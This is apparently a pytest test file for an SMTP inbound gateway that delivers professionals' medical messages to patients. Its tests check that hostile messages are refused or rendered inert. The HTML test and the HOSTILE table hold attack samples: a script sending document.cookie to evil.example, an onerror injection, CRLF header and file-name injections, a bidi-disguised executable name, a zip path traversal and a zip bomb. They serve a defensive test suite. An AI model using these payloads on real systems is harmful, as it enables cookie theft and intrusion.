"""Inbound reception through a real SMTP server on loopback (aiosmtpd), and the full round
trip: a professional writes over SMTP, the patient reads, replies and files an attachment,
the reply reaches the professional's mailbox over SMTP, the professional closes the thread."""

from __future__ import annotations

import base64
import io
import smtplib
import zipfile
from collections.abc import Iterator
from datetime import date
from email import policy
from email.message import EmailMessage

import pytest

from conftest import (
    CDA_FILE,
    MARKER,
    OPERATOR,
    PATIENT_ADDRESS,
    PDF,
    Pki,
    free_port,
    needs_cda,
    pro,
    pro_address,
)
from monespace import Actor
from monespace.accounts import Contact, PatientIdentity
from monespace.errors import AccessDeniedError, ValidationError
from monespace.identity import INS, INS_NIR_TEST_OID, NIR, INSTraits
from monespace.messaging import MSSANTE_CHANNEL, OutboundAttachment
from monespace.record import TRE_A05_TYPE, Code
from monespace_smtp import SmtpTransport, StartTLS, build_xdm, html_to_text, parse_inbound
from monespace_smtp.inbound import InboundServer


@pytest.fixture
def gateway(space) -> Iterator[InboundServer]:
    server = InboundServer(space, "127.0.0.1", free_port(), data_size_limit=2 * 1024 * 1024)
    server.start()
    yield server
    server.stop()


def message(
    *,
    sender: str = pro_address(1),
    to: str = PATIENT_ADDRESS,
    subject: str = "Compte rendu de consultation",
    body: str = "Bonjour,\nvoici le compte rendu.\n",
    message_id: str = "<cr-0001@ch-test.mssante.fr>",
    headers: dict[str, str] | None = None,
    attachments: list[tuple[str, str, bytes]] = (),
) -> bytes:
    mime = EmailMessage(policy=policy.SMTP)
    mime["From"] = sender
    mime["To"] = to
    mime["Subject"] = subject
    mime["Message-ID"] = message_id
    for name, value in (headers or {}).items():
        mime[name] = value
    mime.set_content(body)
    for filename, media, data in attachments:
        maintype, _, subtype = media.partition("/")
        mime.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return mime.as_bytes()


def deliver(
    server: InboundServer,
    raw: bytes,
    *,
    mail_from: str = pro_address(1),
    rcpt: str = PATIENT_ADDRESS,
    client: smtplib.SMTP | None = None,
) -> tuple[int, str]:
    """One SMTP transaction; the reply code and text of the first refusal, or of DATA."""
    with smtplib.SMTP(server.host, server.port, timeout=10) as smtp:
        smtp.ehlo()
        code, text = smtp.mail(mail_from)
        if code != 250:
            return code, text.decode()
        code, text = smtp.rcpt(rcpt)
        if code != 250:
            return code, text.decode()
        code, text = smtp.data(raw)
        return code, text.decode()


def inbox(space, holder):
    return space.messaging.inbox(Actor.patient(holder.id), archived=None)


# --- the round trip ---------------------------------------------------------------------------


def test_the_round_trip_over_real_smtp(space, holder, gateway, smtp_server):
    """A professional writes from their MSSanté mailbox; the patient reads, files the
    attachment into their record and replies; the reply reaches the professional's mailbox;
    the professional answers closing the thread; the patient can no longer reply."""
    me = Actor.patient(holder.id)
    space.transports[MSSANTE_CHANNEL] = SmtpTransport(
        smtp_server.host, smtp_server.port, starttls=StartTLS.NEVER, reuse=False
    )
    raw = message(attachments=[("cr.pdf", "application/pdf", PDF)], body=f"Texte {MARKER}")
    assert deliver(gateway, raw)[0] == 250

    (thread,) = inbox(space, holder).threads
    assert (thread.professional.id, thread.unread) == (pro(1).id, 1)
    view = space.messaging.thread(me, thread.id)
    (first,) = view.messages
    assert (first.origin, first.rfc_message_id) == ("smtp", "<cr-0001@ch-test.mssante.fr>")
    assert first.body.replace("\r\n", "\n") == f"Texte {MARKER}\n"
    (attachment,) = first.attachments
    assert space.messaging.read_attachment(me, attachment.id)[1] == PDF
    document = space.messaging.file_attachment(
        me, attachment.id, type_code=Code("DOCPAT03", TRE_A05_TYPE)
    )
    assert space.record.read_content(me, document.id) == PDF

    space.dispatch()
    (notice,) = space.transports["email"].sent
    assert MARKER not in notice.body

    reply = space.messaging.reply(me, thread.id, body="Merci, à bientôt.")
    assert space.dispatch().sent == 1
    (out,) = smtp_server.recorder.accepted
    sent = out.message
    assert out.rcpt_tos == (pro_address(1),)
    assert sent["Message-ID"] == reply.rfc_message_id
    assert sent["In-Reply-To"] == first.rfc_message_id
    assert sent["Subject"] == "Re: Compte rendu de consultation"

    closing = message(
        subject="Re: Re: Compte rendu de consultation",
        body="Bonne continuation.",
        message_id="<cr-0002@ch-test.mssante.fr>",
        headers={
            "In-Reply-To": reply.rfc_message_id,
            "References": f"{first.rfc_message_id} {reply.rfc_message_id}",
            "X-MSS-MES": "FIN",
        },
    )
    assert deliver(gateway, closing)[0] == 250
    view = space.messaging.thread(me, thread.id)
    assert [m.sender_kind for m in view.messages] == ["professional", "patient", "professional"]
    assert view.thread.closed
    with pytest.raises(AccessDeniedError) as denied:
        space.messaging.reply(me, thread.id, body="Encore une question")
    assert denied.value.rule == "thread_closed_to_replies"


def test_a_message_delivered_twice_is_stored_and_announced_once(space, holder, gateway):
    raw = message()
    assert deliver(gateway, raw)[0] == 250
    assert deliver(gateway, raw)[0] == 250
    page = inbox(space, holder)
    assert page.total == 1
    assert page.threads[0].message_count == 1
    space.dispatch()
    assert len(space.transports["email"].sent) == 1


@needs_cda
def test_a_cda_in_ihe_xdm_is_received_with_its_codes_and_filed(space, holder, gateway):
    cda = CDA_FILE.read_bytes()
    archive = build_xdm([OutboundAttachment("cr.xml", "text/xml", cda, ("11502-2",))])
    raw = message(
        headers={"X-MSS-CODECDA": "11502-2", "X-MSS-INS": "O"},
        attachments=[("IHE_XDM.ZIP", "application/zip", archive)],
    )
    assert deliver(gateway, raw)[0] == 250
    me = Actor.patient(holder.id)
    (thread,) = inbox(space, holder).threads
    (received,) = space.messaging.thread(me, thread.id).messages
    assert received.ins_qualified is True
    (attachment,) = received.attachments
    assert (attachment.filename, attachment.cda_codes) == ("DOC0001.XML", ("11502-2",))
    document = space.messaging.file_attachment(me, attachment.id)
    assert document.type_code == Code("DOCPAT05", TRE_A05_TYPE)


def test_an_html_body_is_kept_as_inert_text(space, holder, gateway):
    mime = EmailMessage(policy=policy.SMTP)
    mime["From"] = pro_address(1)
    mime["To"] = PATIENT_ADDRESS
    mime["Subject"] = "Résultats"
    mime["Message-ID"] = "<html-1@ch-test.mssante.fr>"
    mime.set_content(
        "<html><head><title>t</title><style>p{}</style></head><body>"
        "<p>Vos r&eacute;sultats &amp; conseils</p>"
        "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
        '<img src="x" onerror="alert(1)"><p>&lt;b&gt;texte&lt;/b&gt;</p></body></html>',
        subtype="html",
    )
    assert deliver(gateway, mime.as_bytes())[0] == 250
    (thread,) = inbox(space, holder).threads
    body = space.messaging.thread(Actor.patient(holder.id), thread.id).messages[0].body
    assert "Vos résultats & conseils" in body
    assert "<b>texte</b>" in body  # shown as text, as written
    for active in ("<script", "fetch(", "onerror", "<img", "<p>", "style", "document.cookie"):
        assert active not in body


def test_control_characters_in_bodies_are_replaced(space, holder, gateway):
    raw = message(body="Bonjour\x1b[2J\x00 tout va bien\n")
    assert deliver(gateway, raw)[0] == 250
    (thread,) = inbox(space, holder).threads
    body = space.messaging.thread(Actor.patient(holder.id), thread.id).messages[0].body
    assert "\x1b" not in body
    assert "\x00" not in body
    assert "tout va bien" in body


# --- refusals ------------------------------------------------------------------------------------


def _broken_multipart() -> bytes:
    return (
        b"From: dr.medecin1@ch-test.mssante.fr\r\nTo: " + PATIENT_ADDRESS.encode() + b"\r\n"
        b"Subject: x\r\nMessage-ID: <b1@ch-test.mssante.fr>\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="XYZ"\r\n\r\n'
        b"--XYZ\r\nContent-Type: text/plain\r\n\r\nhello\r\n"
    )


def _raw_headers(extra: bytes) -> bytes:
    return (
        b"From: dr.medecin1@ch-test.mssante.fr\r\nTo: " + PATIENT_ADDRESS.encode() + b"\r\n"
        b"Message-ID: <h1@ch-test.mssante.fr>\r\n" + extra + b"\r\nBonjour\r\n"
    )


def _raw_attachment(disposition: bytes) -> bytes:
    """A PDF attachment whose Content-Disposition parameters are written as given (the
    ``email`` package would decode an encoded word in a file name before writing it)."""
    return (
        b"From: dr.medecin1@ch-test.mssante.fr\r\nTo: " + PATIENT_ADDRESS.encode() + b"\r\n"
        b"Subject: s\r\nMessage-ID: <a1@ch-test.mssante.fr>\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="XYZ"\r\n\r\n'
        b"--XYZ\r\nContent-Type: text/plain\r\n\r\nBonjour\r\n"
        b"--XYZ\r\nContent-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n"
        b"Content-Disposition: attachment; "
        + disposition
        + b"\r\n\r\n"
        + base64.b64encode(PDF)
        + b"\r\n--XYZ--\r\n"
    )


def _xdm_with(name: str, data: bytes, *, declared: bytes | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("IHE_XDM/SUBSET01/METADATA.XML", declared or b"<x/>")
        archive.writestr(name, data)
    return buffer.getvalue()


def _wrong_hash_xdm() -> bytes:
    cda = b'<ClinicalDocument xmlns="urn:hl7-org:v3"/>'
    good = build_xdm([OutboundAttachment("a.xml", "text/xml", cda, ("11502-2",))])
    with zipfile.ZipFile(io.BytesIO(good)) as zf:
        metadata = zf.read("IHE_XDM/SUBSET01/METADATA.XML")
    return _xdm_with("IHE_XDM/SUBSET01/DOC0001.XML", cda + b" ", declared=metadata)


HOSTILE = {
    "broken multipart": (_broken_multipart(), "554 malformed MIME"),
    "subject injection (encoded word)": (
        _raw_headers(b"Subject: =?utf-8?q?R=C3=A9sultats=0D=0ABcc=3A_tous=40example=2Eorg?=\r\n"),
        "554 the Subject must not contain control characters",
    ),
    "subject injection (encoded word in an encoded word)": (
        _raw_headers(
            b"Subject: =?us-ascii?b?"
            + base64.b64encode(b"=?utf-8?q?a=0D=0ABcc:_tous@example.org?=")
            + b"?=\r\n"
        ),
        "554 the Subject must not contain control characters",
    ),
    "file name injection (encoded word)": (
        _raw_attachment(b'filename="=?utf-8?q?cr=0D=0AX-Injected:_1?="'),
        "554 the file name must not contain control characters",
    ),
    "two subjects": (
        _raw_headers(b"Subject: un\r\nSubject: deux\r\n"),
        "554 the Subject header must appear at most once",
    ),
    "two message ids": (
        _raw_headers(b"Subject: s\r\nMessage-ID: <h2@ch-test.mssante.fr>\r\n"),
        "554 the Message-ID header must appear at most once",
    ),
    "X-MSS-MES not FIN": (
        message(headers={"X-MSS-MES": "CONTINUE"}),
        "554 the X-MSS-MES header must be FIN",
    ),
    "X-MSS-INS not O/N": (message(headers={"X-MSS-INS": "peut-etre"}), "554 the X-MSS-INS"),
    "X-MSS-CODECDA garbage": (
        message(headers={"X-MSS-CODECDA": "11502-2,<script>"}),
        "554 the X-MSS-CODECDA",
    ),
    "From is not MAIL FROM": (
        message(sender=pro_address(2)),
        "554 the From header must name the mailbox",
    ),
    "lying attachment": (
        message(attachments=[("cr.pdf", "application/pdf", b"<html><script>x</script></html>")]),
        "554 attachment 1: the content was declared application/pdf",
    ),
    "html attachment": (
        message(attachments=[("page.html", "text/html", b"<html></html>")]),
        "554 attachment 1: media type 'text/html' is not accepted",
    ),
    "bidi file name": (
        message(attachments=[("facture\u202efdp.exe", "application/pdf", PDF)]),
        "554 the file name must not contain",
    ),
    "xdm path traversal": (
        message(
            attachments=[("IHE_XDM.ZIP", "application/zip", _xdm_with("../../etc/x.xml", b"<a/>"))]
        ),
        "554 the IHE_XDM archive was refused",
    ),
    "xdm bomb": (
        message(
            attachments=[
                (
                    "IHE_XDM.ZIP",
                    "application/zip",
                    _xdm_with("IHE_XDM/SUBSET01/DOC0001.XML", b"<" + b"a" * 2_000_000 + b"/>"),
                )
            ]
        ),
        "554 the IHE_XDM archive was refused",
    ),
    "xdm wrong hash": (
        message(attachments=[("IHE_XDM.ZIP", "application/zip", _wrong_hash_xdm())]),
        "554 a document of the IHE_XDM archive does not match its hash",
    ),
    "not a zip": (
        message(attachments=[("IHE_XDM.ZIP", "application/zip", b"PK\x03\x04broken")]),
        "554 the IHE_XDM archive was refused",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_messages_are_refused_with_a_reason_and_nothing_is_stored(
    space, holder, gateway, case
):
    raw, expected = HOSTILE[case]
    code, text = deliver(gateway, raw)
    expected_code, _, reason = expected.partition(" ")
    assert str(code) == expected_code, text
    assert text.startswith("5.6.0 ")
    assert reason in text
    assert inbox(space, holder).total == 0


@needs_cda
def test_a_cda_about_another_patient_is_refused(space, holder, gateway):
    """Identity vigilance: a report naming one patient never lands in another's mailbox."""
    nir = NIR.build("F", 85, 3, "75", "056", 1)
    traits = INSTraits(
        birth_name="DUPONT", first_given_name="MARIE", birth_date=date(1985, 3, 14), sex="F"
    )
    other = space.accounts.register_patient(
        OPERATOR, PatientIdentity(INS(nir, INS_NIR_TEST_OID, traits), Contact())
    )
    space.accounts.create_space(OPERATOR, other.id)
    cda = CDA_FILE.read_bytes()  # about the holder
    archive = build_xdm([OutboundAttachment("cr.xml", "text/xml", cda, ("11502-2",))])
    raw = message(
        to=f"{nir.value}@patient.mssante.fr",
        attachments=[("IHE_XDM.ZIP", "application/zip", archive)],
    )
    code, text = deliver(gateway, raw, rcpt=f"{nir.value}@patient.mssante.fr")
    assert (code, text) == (554, "5.6.0 attachment 1 is about another patient than the recipient")
    assert space.messaging.inbox(Actor.patient(other.id)).total == 0


@pytest.mark.parametrize(
    ("mail_from", "rcpt", "expected"),
    [
        ("inconnu@ch-test.mssante.fr", PATIENT_ADDRESS, (550, "5.7.1")),
        (pro_address(1), "146026322000196@patient.mssante.fr", (550, "5.1.1")),
        (pro_address(1), pro_address(2), (550, "5.1.1")),
        (pro_address(1), "27903512151898X@patient.mssante.fr", (553, "5.1.3")),
        ("dr@gmail.com", PATIENT_ADDRESS, (553, "5.1.7")),
        (PATIENT_ADDRESS, PATIENT_ADDRESS, (553, "5.1.7")),
    ],
)
def test_unknown_or_malformed_addresses_are_refused(
    space, holder, gateway, mail_from, rcpt, expected
):
    code, text = deliver(gateway, message(sender=mail_from), mail_from=mail_from, rcpt=rcpt)
    assert (code, text.split()[0]) == expected
    assert inbox(space, holder).total == 0


def test_one_recipient_per_transaction(space, holder, gateway):
    with smtplib.SMTP(gateway.host, gateway.port, timeout=10) as smtp:
        smtp.ehlo()
        smtp.mail(pro_address(1))
        assert smtp.rcpt(PATIENT_ADDRESS)[0] == 250
        code, text = smtp.rcpt("146026322000196@patient.mssante.fr")
    assert (code, text.split()[0]) == (452, b"4.5.3")


def test_a_blocked_professional_or_a_closed_space_is_refused(space, holder, gateway):
    me = Actor.patient(holder.id)
    space.access.block(me, holder.id, pro(1).id)
    assert deliver(gateway, message())[:1] == (550,)
    space.access.unblock(me, holder.id, pro(1).id)
    space.accounts.close(me, holder.id)
    code, text = deliver(gateway, message(message_id="<other@ch-test.mssante.fr>"))
    assert (code, text.split()[0]) == (550, "5.7.1")


def test_an_oversized_message_is_refused_by_the_server(space, holder, gateway):
    big = b"%PDF-" + b"x" * (3 * 1024 * 1024)
    code, _ = deliver(gateway, message(attachments=[("big.pdf", "application/pdf", big)]))
    assert code == 552
    assert inbox(space, holder).total == 0


def test_inbound_over_starttls(space, holder, tls: Pki):
    server = InboundServer(
        space,
        "127.0.0.1",
        free_port(),
        tls_context=tls.server_context,
        require_starttls=True,
    )
    server.start()
    try:
        with smtplib.SMTP(server.host, server.port, timeout=10) as smtp:
            smtp.ehlo()
            assert smtp.mail(pro_address(1))[0] == 530  # STARTTLS first
            smtp.starttls(context=tls.client_context())
            smtp.ehlo()
            assert smtp.sendmail(pro_address(1), [PATIENT_ADDRESS], message()) == {}
    finally:
        server.stop()
    assert inbox(space, holder).total == 1


def test_html_to_text_keeps_text_and_drops_what_runs():
    assert html_to_text("<p>a&amp;b</p><script>x()</script><p>c</p>") == "a&b\n\nc\n"
    assert html_to_text("<div>&amp;lt;</div>") == "&lt;\n"


# --- what benchmarks/fuzz_inputs.py found ---------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        b"From: dr.martin@\r\n\r\nbody\r\n",  # the stdlib's address parser: IndexError
        b'From: a Content-Disposition: b; c="d"\r\n\r\nbody\r\n',  # a group: AttributeError
        b"From: <p@x.fr>\r\n" + b"X-A: b\r\n" * 10_000 + b"\r\nbody\r\n",  # seconds to parse
        b"From: <p@x.fr>\r\nTo: p@x." + b'name="' * 9_000 + b"\r\n\r\nbody\r\n",  # seconds too
        b"From: <p@x.fr>\r\nTo: patient@\r\n\r\nbody\r\n",
    ],
)
def test_a_header_the_stdlib_cannot_parse_is_a_validation_error(raw):
    with pytest.raises(ValidationError):
        parse_inbound(raw, mail_from="p@x.fr", recipient=PATIENT_ADDRESS)
